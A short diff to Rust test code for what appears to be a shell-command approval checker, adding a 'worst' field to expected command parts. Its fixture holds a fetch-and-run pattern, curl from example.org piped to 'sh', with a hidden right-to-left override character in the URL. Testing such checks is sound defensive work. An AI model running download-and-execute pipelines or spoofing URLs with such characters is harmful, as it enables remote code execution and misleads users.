@@ -203,13 +203,15 @@ fn command(command: &str) -> Ask {
                 text: "cargo test redirect -- --nocapture".to_owned(),
                 state: PartState::Allowed,
                 risks: Vec::new(),
+                worst: false,
             },
             PartShown {
                 text: "curl -s https://example.org/a\u{202e}b".to_owned(),
                 state: PartState::Asked,
                 risks: Vec::new(),
+                worst: false,
             },
-            PartShown { text: "sh".to_owned(), state: PartState::Asked, risks: Vec::new() },
+            PartShown { text: "sh".to_owned(), state: PartState::Asked, risks: Vec::new(), worst: false },
         ],
         offers: vec![offer(Rule {
             program: Some("cargo".to_owned()),
